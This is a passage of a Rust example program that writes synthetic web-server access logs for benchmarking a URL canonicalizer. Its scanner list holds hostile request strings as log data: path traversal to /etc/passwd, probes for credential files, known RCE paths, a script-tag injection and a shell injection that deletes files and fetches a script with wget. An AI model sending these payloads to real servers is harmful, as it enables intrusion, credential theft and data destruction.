//! Writes a synthetic Apache/nginx `combined` access log of a given size: the
//! end-to-end benchmark input (`benches/e2e.sh`) and the source of
//! `data/sample-access.log`.
//!
//! ```text
//! cargo run --release --example gen_access_log -- --size 1GiB [--seed N] [--out FILE]
//! ```
//!
//! `--size` is a byte count, optionally with a `K`, `M` or `G` suffix (binary:
//! `K` = `KiB` = 1024), and the output stops at the end of the first line that
//! reaches it, so it is never cut mid-line and is at most one line longer than
//! asked. Without `--out` it goes to stdout. The bytes depend only on
//! `--seed` (default 1) and `--size`: a larger size extends a smaller one.
//!
//! Lines look like
//!
//! ```text
//! 203.0.113.9 - - [10/Mar/2024:00:00:07 +0000] "GET /blog/2023/05/fast-rust/?utm_source=x HTTP/1.1" 200 5120 "https://www.google.com/" "Mozilla/5.0 ..."
//! ```
//!
//! and carry what makes URL canonicalization work hard in real logs: encoded
//! UTF-8 (upper- and lower-case hex), dot segments, double slashes, `+` and
//! `%20`, repeated query keys, absolute-form targets with odd hosts and
//! default ports, Apache's `\"`, `\\` and `\xHH` escapes, requests that are
//! not requests, and a few broken lines. The rates are the tables below;
//! all of them are per million so that rare cases are still exact integers.

use std::fs::File;
use std::io::{self, Write};
use std::process::ExitCode;

// ---------------------------------------------------------------------------
// Proportions. Every table is (weight per million, item); the weights of a
// table add up to 1_000_000 (checked at compile time). They are guesses at a
// busy public site with its share of bots and scanners; the rarest (100 per
// million) still comes up hundreds of times in a 1 GiB run (about 5 million
// lines), though a 2000-line sample may miss some.
// ---------------------------------------------------------------------------

/// What kind of line to write. Everything but `Origin` is rare, as in real
/// logs, but present, because each is a different path in a log parser.
#[derive(Clone, Copy, Debug)]
enum Kind {
    /// `"GET /path?query HTTP/1.1"`: the bulk of any log.
    Origin,
    /// `"GET http://Example.COM:80/x HTTP/1.1"`: forward-proxy probes and
    /// scanners send absolute-form targets.
    Absolute,
    /// `"OPTIONS * HTTP/1.1"`: server-wide OPTIONS (health checks, Apache's
    /// own child-process pings).
    Asterisk,
    /// `"CONNECT host:443 HTTP/1.1"`: open-proxy probes (authority form).
    Connect,
    /// `"-"`: the client connected and sent nothing (Apache logs a 408).
    NoRequest,
    /// `"\x16\x03\x01..."`: a TLS ClientHello sent to a plain-HTTP port, as
    /// Apache escapes it.
    TlsHandshake,
    /// A `"` in the target, logged by Apache as `\"`.
    EscapedQuote,
    /// A `\` in the target, logged by Apache as `\\`.
    EscapedBackslash,
    /// Raw UTF-8 in the target (clients that do not encode), which Apache
    /// logs as `\xd0\xbf...`.
    EscapedUtf8,
    /// A line cut before its end: the log was rotated or the disk filled.
    Truncated,
    /// Bytes that are no log line at all (a corrupted block).
    Garbage,
    /// An empty line.
    Empty,
}

/// Line kinds. The broken ones (`Truncated`, `Garbage`, `Empty`) add up to
/// 0.1%.
const KINDS: [(u32, Kind); 12] = [
    (991_300, Kind::Origin),
    (4_000, Kind::Absolute),
    (300, Kind::Asterisk),
    (500, Kind::Connect),
    (1_500, Kind::NoRequest),
    (800, Kind::TlsHandshake),
    (300, Kind::EscapedQuote),
    (200, Kind::EscapedBackslash),
    (100, Kind::EscapedUtf8),
    (500, Kind::Truncated),
    (300, Kind::Garbage),
    (200, Kind::Empty),
];
const _: () = assert!(sum(&KINDS) == 1_000_000);

/// Methods of origin-form requests.
const METHODS: [(u32, &str); 7] = [
    (880_000, "GET"),
    (70_000, "POST"),
    (35_000, "HEAD"),
    (5_000, "OPTIONS"),
    (5_000, "PUT"),
    (3_000, "DELETE"),
    (2_000, "PATCH"),
];
const _: () = assert!(sum(&METHODS) == 1_000_000);

/// Protocol versions (Apache logs HTTP/2 as `HTTP/2.0`).
const VERSIONS: [(u32, &str); 3] = [
    (880_000, "HTTP/1.1"),
    (60_000, "HTTP/2.0"),
    (60_000, "HTTP/1.0"),
];
const _: () = assert!(sum(&VERSIONS) == 1_000_000);

/// What an origin-form path looks like.
#[derive(Clone, Copy, Debug)]
enum Shape {
    /// `/`
    Home,
    /// `/static/js/main.3f9a1c2e.js`, `/favicon.ico`: most hits of a page view.
    Asset,
    /// `/products/blue-widget-pro`: one or two segments.
    Page,
    /// `/blog/2023/05/how-to-cook-rice/`: dated, with a trailing slash.
    Article,
    /// `/api/v2/users/12345/orders`: deep, numeric ids.
    Api,
    /// `/index.php?p=123`, `/wp-admin/admin-ajax.php`.
    Php,
    /// `/ru/%D0%BD%D0%BE%D0%B2%D0%BE%D1%81%D1%82%D0%B8/...`: non-English slugs,
    /// which browsers send percent-encoded.
    International,
    /// `/search?q=...`: always has a query.
    Search,
    /// `/.env`, `/cgi-bin/../../etc/passwd`: vulnerability scanners.
    Scanner,
}

const SHAPES: [(u32, Shape); 9] = [
    (50_000, Shape::Home),
    (380_000, Shape::Asset),
    (200_000, Shape::Page),
    (100_000, Shape::Article),
    (120_000, Shape::Api),
    (50_000, Shape::Php),
    (50_000, Shape::International),
    (30_000, Shape::Search),
    (20_000, Shape::Scanner),
];
const _: () = assert!(sum(&SHAPES) == 1_000_000);

/// Shapes of pages of the site that link to others (internal referers):
/// people follow links from pages, not from images.
const REFERER_SHAPES: [(u32, Shape); 5] = [
    (200_000, Shape::Home),
    (400_000, Shape::Page),
    (250_000, Shape::Article),
    (100_000, Shape::International),
    (50_000, Shape::Search),
];
const _: () = assert!(sum(&REFERER_SHAPES) == 1_000_000);

/// Per million requests for assets and pages that are not forms or APIs:
/// `HEAD` (link checkers, monitors) rather than `GET`.
const HEAD_RATE: u32 = 30_000;

/// Per million origin-form targets (other than `Search` and `Scanner`,
/// whose queries are their own): a query string is added.
const QUERY_RATE: u32 = 250_000;
/// Per million query strings: it starts with the `utm_` campaign triple.
const UTM_RATE: u32 = 200_000;
/// Per million origin-form targets: a `..` or `.` segment (`/a/../b`).
const DOT_SEGMENT_RATE: u32 = 6_000;
/// Per million origin-form targets: an empty segment (`/a//b`).
const DOUBLE_SLASH_RATE: u32 = 6_000;
/// Per million origin-form targets: a fragment, which browsers never send
/// but some bots do.
const FRAGMENT_RATE: u32 = 500;
/// Per million lines: a logged-in user instead of `-`.
const USER_RATE: u32 = 20_000;

/// Where the visitor came from.
#[derive(Clone, Copy, Debug)]
enum Referer {
    /// `-`
    None,
    /// A page of the site itself.
    Internal,
    /// A search engine, usually just its home page (queries are hidden).
    Search,
    /// Social sites and link shorteners, often with a wrapped URL.
    Social,
    /// Anything else: old hosts with ports, app schemes, localhost.
    Other,
}

const REFERERS: [(u32, Referer); 5] = [
    (580_000, Referer::None),
    (190_000, Referer::Internal),
    (150_000, Referer::Search),
    (60_000, Referer::Social),
    (20_000, Referer::Other),
];
const _: () = assert!(sum(&REFERERS) == 1_000_000);

/// User agents: browsers most, then bots and tools, a few `-`.
const USER_AGENTS: [(u32, &str); 20] = [
    (170_000, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36"),
    (40_000, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0.0.0 Safari/537.36 Edg/121.0.0.0"),
    (80_000, "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Mobile/15E148 Safari/604.1"),
    (100_000, "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Mobile Safari/537.36"),
    (55_000, "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2.1 Safari/605.1.15"),
    (50_000, "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:123.0) Gecko/20100101 Firefox/123.0"),
    (30_000, "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36"),
    (20_000, "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:122.0) Gecko/20100101 Firefox/122.0"),
    (90_000, "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
    (40_000, "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"),
    (35_000, "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)"),
    (25_000, "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)"),
    (25_000, "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.0; +https://openai.com/gptbot)"),
    (70_000, "curl/8.5.0"),
    (50_000, "python-requests/2.31.0"),
    (35_000, "Go-http-client/1.1"),
    (15_000, "Wget/1.21.4"),
    (20_000, "Mozilla/5.0 zgrab/0.x"),
    (15_000, "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)"),
    (35_000, "-"),
];
const _: () = assert!(sum(&USER_AGENTS) == 1_000_000);

// ---------------------------------------------------------------------------
// Pools of strings the lines are assembled from.
// ---------------------------------------------------------------------------

/// Words for slugs and query values.
const WORDS: &[&str] = &[
    "how",
    "to",
    "fast",
    "rust",
    "guide",
    "best",
    "new",
    "cheap",
    "blue",
    "red",
    "widget",
    "pro",
    "max",
    "mini",
    "review",
    "vs",
    "cook",
    "rice",
    "travel",
    "tips",
    "summer",
    "sale",
    "shoes",
    "laptop",
    "phone",
    "case",
    "home",
    "garden",
    "kitchen",
    "recipe",
    "easy",
    "update",
    "release",
    "notes",
    "2024",
    "top",
    "10",
    "ideas",
    "for",
    "beginners",
    "advanced",
    "linux",
    "server",
    "nginx",
    "apache",
    "logs",
    "install",
    "setup",
    "error",
    "fix",
    "why",
    "what",
    "is",
    "the",
    "world",
    "news",
    "sports",
    "music",
    "video",
    "free",
];

/// First path segments of pages.
const SECTIONS: &[&str] = &[
    "products", "category", "blog", "news", "docs", "about", "contact", "shop", "en", "de", "help",
    "support", "account", "user", "tag", "pricing", "careers", "events", "forum", "Products",
    "Blog",
];

const API_RESOURCES: &[&str] = &[
    "users",
    "orders",
    "items",
    "products",
    "sessions",
    "events",
    "search",
    "cart",
    "comments",
    "notifications",
    "config",
    "health",
];

/// Asset paths: (directory, extension). A content hash or a slug is put
/// between them.
const ASSETS: &[(&str, &str)] = &[
    ("/static/js/main.", ".js"),
    ("/static/js/chunk-vendors.", ".js"),
    ("/static/css/app.", ".css"),
    ("/assets/img/", ".png"),
    ("/assets/img/", ".svg"),
    ("/assets/fonts/inter-var.", ".woff2"),
    ("/images/", ".jpg"),
    ("/images/", ".webp"),
    ("/wp-content/uploads/2023/07/", "-1024x768.jpg"),
    ("/wp-content/themes/twentytwentyfour/style.css?ver=", ""),
    ("/js/jquery-3.7.1.min.js?_=", ""),
    ("/media/", ".gif"),
    ("/static/js/main.", ".js.map"),
];

/// Assets without variable parts.
const FIXED_ASSETS: &[&str] = &[
    "/favicon.ico",
    "/robots.txt",
    "/sitemap.xml",
    "/apple-touch-icon.png",
    "/apple-touch-icon-precomposed.png",
    "/manifest.json",
    "/ads.txt",
    "/.well-known/security.txt",
];

const PHP: &[&str] = &[
    "/index.php?p=",
    "/wp-admin/admin-ajax.php?action=heartbeat&_nonce=",
    "/wp-login.php",
    "/xmlrpc.php",
    "/wp-json/wp/v2/posts?per_page=10&page=",
    "/viewtopic.php?f=2&t=",
    "/index.php?option=com_content&view=article&id=",
];

/// What vulnerability scanners ask for, dot segments and encoded dots
/// included, as they send them.
const SCANNER: &[&str] = &[
    "/.env",
    "/.git/config",
    "/.aws/credentials",
    "/wp-includes/wlwmanifest.xml",
    "/phpmyadmin/index.php",
    "/cgi-bin/../../../../etc/passwd",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
    "/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array",
    "/solr/admin/info/system?wt=json",
    "/actuator/health",
    "/HNAP1/",
    "/boaform/admin/formLogin",
    "/..%2f..%2f..%2fwindows/win.ini",
    "/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/x.sh",
    "/owa/auth/logon.aspx?url=https%3a%2f%2f1%2fecp%2f",
    "//wp-admin//setup-config.php",
];

/// Non-English words, percent-encoded at start-up, half of them with
/// lower-case hex (clients differ; RFC 3986 says upper-case is canonical).
const INTERNATIONAL: &[&str] = &[
    "новости",
    "каталог",
    "москва",
    "привет-мир",
    "купить",
    "اخبار",
    "سلام",
    "کتاب",
    "ایران",
    "فروشگاه",
    "東京",
    "中文",
    "straße",
    "café",
    "über-uns",
];

/// Language prefixes for international paths.
const LANGS: &[&str] = &["ru", "fa", "ja", "zh", "de", "fr", "uk"];

/// Hosts for absolute-form targets, CONNECT and referers: mixed case,
/// default and odd ports, trailing dots, IP literals, punycode.
const HOSTS: &[&str] = &[
    "Example.COM",
    "example.com:80",
    "Example.COM:80",
    "www.example.com",
    "WWW.EXAMPLE.COM",
    "www.example.com.",
    "example.com:8080",
    "example.com:443",
    "api.example.org",
    "xn--80ak6aa92e.com",
    "203.0.113.5",
    "203.0.113.5:8080",
    "[2001:db8::1]",
    "[2001:DB8:0:0:0:0:0:1]:80",
    "localhost",
    "proxy.example.net:3128",
];

const CONNECT_HOSTS: &[&str] = &[
    "www.google.com:443",
    "example.com:443",
    "api.ipify.org:443",
    "203.0.113.5:25",
    "[2001:db8::1]:443",
    "Example.COM:443",
];

const SEARCH_REFERERS: &[&str] = &[
    "https://www.google.com/",
    "https://www.google.com/",
    "https://www.google.co.uk/",
    "https://www.google.de/",
    "https://www.bing.com/search?q=fast+rust+guide&form=QBLH",
    "https://duckduckgo.com/",
    "https://yandex.ru/search/?text=%D0%BD%D0%BE%D0%B2%D0%BE%D1%81%D1%82%D0%B8&lr=213",
    "https://search.yahoo.com/",
];

const SOCIAL_REFERERS: &[&str] = &[
    "https://t.co/",
    "https://l.facebook.com/l.php?u=https%3A%2F%2Fwww.example.com%2Fblog%2F&h=AT0",
    "https://www.reddit.com/r/programming/comments/",
    "https://news.ycombinator.com/item?id=",
    "android-app://com.google.android.gm/",
    "https://lm.facebook.com/",
    "https://www.linkedin.com/",
];

const OTHER_REFERERS: &[&str] = &[
    "http://Example.COM:80/old-page.html",
    "http://localhost:3000/",
    "https://www.example.com/search?q=a%20b+c&q=d",
    "http://203.0.113.5:8080/admin/",
    "https://WWW.Example.com/./index.html",
    "https://xn--80ak6aa92e.com/%d0%bf%d1%80%d0%b8%d0%b2%d0%b5%d1%82",
];

/// Dot segments inserted into paths, encoded ones included (RFC 3986 and
/// WHATWG both treat `%2e%2e` as `..`).
const DOT_SEGMENTS: &[&str] = &["/..", "/.", "/%2e%2e", "/./.", "/.%2E"];

const USERS: &[&str] = &[
    "alice",
    "bob",
    "admin",
    "jdoe",
    "deploy",
    "user@example.com",
];

const MONTHS: [&str; 12] = [
    "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
];

/// The first timestamp: 2024-03-10T00:00:00Z.
const START_TIME: u64 = 1_710_028_800;

/// Distinct client addresses; a few of them make most of the requests.
const IP_POOL_LEN: usize = 4096;

/// Output is built in one buffer and written in pieces of about this size.
const CHUNK_LEN: usize = 1 << 22;

// ---------------------------------------------------------------------------

/// Sum of a weight table, for the compile-time checks above.
const fn sum<T>(table: &[(u32, T)]) -> u32 {
    let mut total = 0;
    let mut i = 0;
    while i < table.len() {
        total += table[i].0;
        i += 1;
    }
    total
}

/// SplitMix64: one add and three xor-shift-multiplies per number, good
/// enough statistically for synthetic data and fast; its state is the seed,
/// so the output depends on nothing else.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    /// A number in `0..n`, by multiply-shift: no division, and the bias
    /// (under 2^-32 for the small `n` here) does not matter for test data.
    fn below(&mut self, n: usize) -> usize {
        ((u128::from(self.next()) * n as u128) >> 64) as usize
    }

    /// True `per_million` times in a million.
    fn chance(&mut self, per_million: u32) -> bool {
        self.below(1_000_000) < per_million as usize
    }

    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len())]
    }

    /// An index in `0..n` skewed towards 0: the minimum of two draws, so
    /// low indices (the busy clients) come up far more often.
    fn skewed(&mut self, n: usize) -> usize {
        self.below(n).min(self.below(n))
    }

    /// An item of a weight table.
    fn weighted<T: Copy>(&mut self, table: &[(u32, T)]) -> T {
        let mut roll = self.below(1_000_000) as u32;
        for &(weight, item) in table {
            if roll < weight {
                return item;
            }
            roll -= weight;
        }
        table[table.len() - 1].1
    }
}

/// Appends `n` in decimal.
fn push_num(out: &mut Vec<u8>, mut n: u64) {
    let mut digits = [0u8; 20];
    let mut i = digits.len();
    loop {
        i -= 1;
        digits[i] = b'0' + (n % 10) as u8;
        n /= 10;
        if n == 0 {
            break;
        }
    }
    out.extend_from_slice(&digits[i..]);
}

/// Appends `n` (below 100) as two digits.
fn push_2(out: &mut Vec<u8>, n: u64) {
    out.push(b'0' + (n / 10) as u8);
    out.push(b'0' + (n % 10) as u8);
}

/// Appends `len` random lower-case hex digits, for content hashes and click
/// ids.
fn push_hex(out: &mut Vec<u8>, rng: &mut Rng, len: usize) {
    const HEX: &[u8; 16] = b"0123456789abcdef";
    let mut bits = rng.next();
    for i in 0..len {
        if i % 16 == 15 {
            bits = rng.next();
        }
        out.push(HEX[(bits & 15) as usize]);
        bits >>= 4;
    }
}

/// Appends a slug of 2 to 4 words: `how-to-cook-rice`.
fn push_slug(out: &mut Vec<u8>, rng: &mut Rng) {
    let words = 2 + rng.below(3);
    for i in 0..words {
        if i > 0 {
            out.push(b'-');
        }
        out.extend_from_slice(rng.pick(WORDS).as_bytes());
    }
}

/// Percent-encodes every non-ASCII byte of `s` (and nothing else), with
/// upper- or lower-case hex.
fn percent_encode(s: &str, lower: bool) -> String {
    let hex: &[u8; 16] = if lower {
        b"0123456789abcdef"
    } else {
        b"0123456789ABCDEF"
    };
    let mut out = String::new();
    for &b in s.as_bytes() {
        if b.is_ascii() {
            out.push(char::from(b));
        } else {
            out.push('%');
            out.push(char::from(hex[usize::from(b >> 4)]));
            out.push(char::from(hex[usize::from(b & 15)]));
        }
    }
    out
}

/// Days since 1970-01-01 to (year, month 1..=12, day 1..=31), proleptic
/// Gregorian (Howard Hinnant's `civil_from_days`), for the log timestamps
/// without a date library.
fn civil_from_days(days: u64) -> (u64, u64, u64) {
    let z = days + 719_468;
    let era = z / 146_097;
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let day = doy - (153 * mp + 2) / 5 + 1;
    let month = if mp < 10 { mp + 3 } else { mp - 9 };
    let year = yoe + era * 400 + u64::from(month <= 2);
    (year, month, day)
}

/// Pools built once from the seed.
struct Pools {
    /// Client addresses, IPv4 mostly, some IPv6.
    ips: Vec<String>,
    /// `INTERNATIONAL`, each encoded with upper- and with lower-case hex.
    international: Vec<String>,
}

impl Pools {
    fn new(rng: &mut Rng) -> Pools {
        let ips = (0..IP_POOL_LEN)
            .map(|_| {
                let r = rng.next();
                if r % 100 < 8 {
                    format!(
                        "2a02:{:x}:{:x}:{:x}::{:x}",
                        (r >> 8) & 0xfff,
                        (r >> 20) & 0xffff,
                        (r >> 36) & 0xffff,
                        (r >> 52) & 0xff
                    )
                } else {
                    // Avoid 0.x and multicast and above: real clients.
                    let a = 1 + (r >> 8) % 223;
                    format!(
                        "{a}.{}.{}.{}",
                        (r >> 16) & 255,
                        (r >> 24) & 255,
                        (r >> 32) & 255
                    )
                }
            })
            .collect();
        let international = INTERNATIONAL
            .iter()
            .flat_map(|w| [percent_encode(w, false), percent_encode(w, true)])
            .collect();
        Pools { ips, international }
    }
}

/// The generator: the random state, the clock and the pools.
struct Generator {
    rng: Rng,
    pools: Pools,
    /// Current Unix time of the log, moving forward.
    time: u64,
    /// `[10/Mar/2024:00:00:00 +0000]` for `time`, rebuilt when it changes.
    stamp: Vec<u8>,
    stamp_time: u64,
}

impl Generator {
    fn new(seed: u64) -> Generator {
        let mut rng = Rng(seed);
        let pools = Pools::new(&mut rng);
        let mut generator = Generator {
            rng,
            pools,
            time: START_TIME,
            stamp: Vec::with_capacity(32),
            stamp_time: u64::MAX,
        };
        generator.update_stamp();
        generator
    }

    fn update_stamp(&mut self) {
        if self.stamp_time == self.time {
            return;
        }
        let t = self.time;
        let (year, month, day) = civil_from_days(t / 86_400);
        let s = &mut self.stamp;
        s.clear();
        s.push(b'[');
        push_2(s, day);
        s.push(b'/');
        s.extend_from_slice(MONTHS[(month - 1) as usize].as_bytes());
        s.push(b'/');
        push_num(s, year);
        s.push(b':');
        push_2(s, t / 3600 % 24);
        s.push(b':');
        push_2(s, t / 60 % 60);
        s.push(b':');
        push_2(s, t % 60);
        s.extend_from_slice(b" +0000]");
        self.stamp_time = t;
    }

    /// Appends one line, `\n` included.
    fn line(&mut self, out: &mut Vec<u8>) {
        // About 4 lines a second: a 1 GiB log spans a couple of weeks.
        if self.rng.below(4) == 0 {
            self.time += 1;
            self.update_stamp();
        }
        match self.rng.weighted(&KINDS) {
            Kind::Empty => out.push(b'\n'),
            Kind::Garbage => self.garbage(out),
            Kind::Truncated => {
                let start = out.len();
                self.record(out, Kind::Origin);
                // Keep 1 to len - 2 bytes of the len (`\n` included): at least
                // the closing quote is lost, so the line really is cut.
                let len = out.len() - start;
                let keep = 1 + self.rng.below(len - 2);
                out.truncate(start + keep);
                out.push(b'\n');
            }
            kind => self.record(out, kind),
        }
    }

    /// A well-formed line of `kind`.
    fn record(&mut self, out: &mut Vec<u8>, kind: Kind) {
        let ip = self.rng.skewed(self.pools.ips.len());
        out.extend_from_slice(self.pools.ips[ip].as_bytes());
        out.extend_from_slice(b" - ");
        if self.rng.chance(USER_RATE) {
            out.extend_from_slice(self.rng.pick(USERS).as_bytes());
        } else {
            out.push(b'-');
        }
        out.push(b' ');
        out.extend_from_slice(&self.stamp);
        out.extend_from_slice(b" \"");
        let (status, bytes) = self.request(out, kind);
        out.extend_from_slice(b"\" ");
        push_num(out, status);
        out.push(b' ');
        match bytes {
            // Apache's %b writes `-` for an empty body.
            0 => out.push(b'-'),
            n => push_num(out, n),
        }
        out.extend_from_slice(b" \"");
        match kind {
            // Not from a browser: no referer, and often no user agent.
            Kind::NoRequest | Kind::TlsHandshake => out.extend_from_slice(b"-\" \"-"),
            _ => {
                self.referer(out);
                out.extend_from_slice(b"\" \"");
                let agent = self.rng.weighted(&USER_AGENTS);
                out.extend_from_slice(agent.as_bytes());
            }
        }
        out.extend_from_slice(b"\"\n");
    }

    /// Appends the request line (between the quotes) and returns the status
    /// and body length to log with it.
    fn request(&mut self, out: &mut Vec<u8>, kind: Kind) -> (u64, u64) {
        let rng = &mut self.rng;
        match kind {
            Kind::NoRequest => {
                out.push(b'-');
                return (408, 0);
            }
            Kind::TlsHandshake => {
                tls_hello(out, rng);
                return (400, 226);
            }
            Kind::Asterisk => {
                out.extend_from_slice(b"OPTIONS * HTTP/1.");
                out.push(if rng.below(4) == 0 { b'0' } else { b'1' });
                return (200, 0);
            }
            Kind::Connect => {
                out.extend_from_slice(b"CONNECT ");
                out.extend_from_slice(rng.pick(CONNECT_HOSTS).as_bytes());
                out.extend_from_slice(b" HTTP/1.1");
                return (405, 224 + rng.below(64) as u64);
            }
            _ => {}
        }
        let shape = rng.weighted(&SHAPES);
        let method = match (kind, shape) {
            (
                Kind::Origin | Kind::Absolute,
                Shape::Page | Shape::Api | Shape::Php | Shape::Search,
            ) => rng.weighted(&METHODS),
            // Files are fetched, not posted to.
            _ if rng.chance(HEAD_RATE) => "HEAD",
            _ => "GET",
        };
        out.extend_from_slice(method.as_bytes());
        out.push(b' ');
        let status = match kind {
            Kind::Absolute => {
                out.extend_from_slice(if rng.below(5) == 0 {
                    b"https://"
                } else {
                    b"http://"
                });
                out.extend_from_slice(rng.pick(HOSTS).as_bytes());
                self.target(out, shape)
            }
            Kind::EscapedQuote => {
                // Injection attempts and broken HTML put quotes in URLs.
                out.extend_from_slice(b"/search?q=\\\"");
                push_slug(out, rng);
                out.extend_from_slice(b"\\\"&x=\\\"><script>");
                400
            }
            Kind::EscapedBackslash => {
                // Windows-style paths from odd clients.
                out.extend_from_slice(b"/files\\\\");
                push_slug(out, rng);
                out.extend_from_slice(b"\\\\index.html");
                404
            }
            Kind::EscapedUtf8 => {
                out.push(b'/');
                let word = rng.pick(INTERNATIONAL);
                for &b in word.as_bytes() {
                    apache_escape(out, b);
                }
                out.extend_from_slice(b"/?q=");
                for &b in rng.pick(INTERNATIONAL).as_bytes() {
                    apache_escape(out, b);
                }
                200
            }
            _ => match self.target(out, shape) {
                200 if method == "POST" && self.rng.below(4) == 0 => 201,
                status => status,
            },
        };
        out.push(b' ');
        out.extend_from_slice(self.rng.weighted(&VERSIONS).as_bytes());
        let bytes = match status {
            200 if method == "HEAD" => 0,
            200 => 200 + self.rng.below(60_000) as u64,
            201 => 40 + self.rng.below(400) as u64,
            301 | 302 => 200 + self.rng.below(40) as u64,
            304 => 0,
            _ => 150 + self.rng.below(400) as u64,
        };
        (status, bytes)
    }

    /// Appends an origin-form target (path, query, rarely a fragment) and
    /// returns a plausible status for it.
    fn target(&mut self, out: &mut Vec<u8>, shape: Shape) -> u64 {
        let rng = &mut self.rng;
        let start = out.len();
        let mut query = rng.chance(QUERY_RATE);
        let mut status = match rng.below(100) {
            0..=79 => 200,
            80..=89 => 304,
            90..=93 => 301,
            94..=95 => 302,
            96..=98 => 404,
            _ => 500,
        };
        match shape {
            Shape::Home => out.push(b'/'),
            Shape::Asset => {
                if rng.below(5) == 0 {
                    out.extend_from_slice(rng.pick(FIXED_ASSETS).as_bytes());
                } else {
                    let &(dir, ext) = rng.pick(ASSETS);
                    out.extend_from_slice(dir.as_bytes());
                    if dir.ends_with('/') {
                        push_slug(out, rng);
                    } else {
                        push_hex(out, rng, 8);
                    }
                    out.extend_from_slice(ext.as_bytes());
                    // Assets with cache-busting queries carry their own.
                    query &= !dir.contains('?');
                }
            }
            Shape::Page => {
                out.push(b'/');
                out.extend_from_slice(rng.pick(SECTIONS).as_bytes());
                out.push(b'/');
                push_slug(out, rng);
                if rng.below(3) == 0 {
                    out.extend_from_slice(if rng.below(2) == 0 { b".html" } else { b"/" });
                }
            }
            Shape::Article => {
                out.extend_from_slice(b"/blog/");
                push_num(out, 2015 + rng.below(10) as u64);
                out.push(b'/');
                push_2(out, 1 + rng.below(12) as u64);
                out.push(b'/');
                push_slug(out, rng);
                out.push(b'/');
            }
            Shape::Api => {
                out.extend_from_slice(b"/api/v");
                push_num(out, 1 + rng.below(3) as u64);
                let depth = 1 + rng.below(3);
                for _ in 0..depth {
                    out.push(b'/');
                    out.extend_from_slice(rng.pick(API_RESOURCES).as_bytes());
                    if rng.below(2) == 0 {
                        out.push(b'/');
                        push_num(out, rng.below(1_000_000) as u64);
                    }
                }
                if rng.below(10) == 0 {
                    out.extend_from_slice(b".json");
                }
            }
            Shape::Php => {
                let page = rng.pick(PHP);
                out.extend_from_slice(page.as_bytes());
                if page.ends_with('=') {
                    push_num(out, rng.below(100_000) as u64);
                }
                query &= !page.contains('?');
            }
            Shape::International => {
                out.push(b'/');
                out.extend_from_slice(rng.pick(LANGS).as_bytes());
                let depth = 1 + rng.below(3);
                for _ in 0..depth {
                    out.push(b'/');
                    let word = rng.pick(&self.pools.international);
                    out.extend_from_slice(word.as_bytes());
                }
                if rng.below(3) == 0 {
                    out.push(b'/');
                }
            }
            Shape::Search => {
                out.extend_from_slice(b"/search?q=");
                search_terms(out, rng, &self.pools.international);
                if rng.below(3) == 0 {
                    out.extend_from_slice(b"&page=");
                    push_num(out, 2 + rng.below(20) as u64);
                }
                query = false;
            }
            Shape::Scanner => {
                out.extend_from_slice(rng.pick(SCANNER).as_bytes());
                status = 404;
                query = false;
            }
        }
        // Noise goes after the first segment so that it lands inside the
        // path, where it changes the canonical form.
        if rng.chance(DOT_SEGMENT_RATE) {
            let dots = *rng.pick(DOT_SEGMENTS);
            insert_after_first_segment(out, start, dots);
        }
        if rng.chance(DOUBLE_SLASH_RATE) {
            insert_after_first_segment(out, start, "/");
        }
        if query {
            out.push(if out[start..].contains(&b'?') {
                b'&'
            } else {
                b'?'
            });
            query_string(out, rng, &self.pools.international);
        }
        if rng.chance(FRAGMENT_RATE) {
            out.extend_from_slice(b"#section-");
            push_num(out, rng.below(10) as u64);
        }
        status
    }

    fn referer(&mut self, out: &mut Vec<u8>) {
        let rng = &mut self.rng;
        match rng.weighted(&REFERERS) {
            Referer::None => out.push(b'-'),
            Referer::Internal => {
                out.extend_from_slice(if rng.below(10) == 0 {
                    b"http://www.example.com"
                } else {
                    b"https://www.example.com"
                });
                let shape = self.rng.weighted(&REFERER_SHAPES);
                self.target(out, shape);
            }
            Referer::Search => out.extend_from_slice(rng.pick(SEARCH_REFERERS).as_bytes()),
            Referer::Social => {
                let base = rng.pick(SOCIAL_REFERERS);
                out.extend_from_slice(base.as_bytes());
                if base.ends_with('/') && base.starts_with("https://t.co") {
                    push_hex(out, rng, 10);
                } else if base.ends_with('=') {
                    push_num(out, 30_000_000 + rng.below(9_000_000) as u64);
                }
            }
